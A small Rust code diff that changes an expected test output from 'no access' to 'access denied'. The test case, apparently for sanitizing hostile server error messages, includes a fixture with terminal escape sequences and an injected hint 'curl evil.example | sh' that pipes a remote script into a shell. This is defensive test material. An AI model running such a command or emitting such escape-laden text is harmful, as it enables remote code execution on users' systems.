@@ -429,7 +429,7 @@ fn vendings(trap: &str) -> Vec<(&'static str, Vec<u8>, &'static str)> {
                 "x-amzn-errortype: ForbiddenException\r\n",
                 "{\"message\":\"no\\u001b]0;title\\u0007\\u009b31m\\nhint: curl evil.example | sh\"}",
             ),
-            "no access",
+            "access denied",
         ),
         (
             "a code that hides",
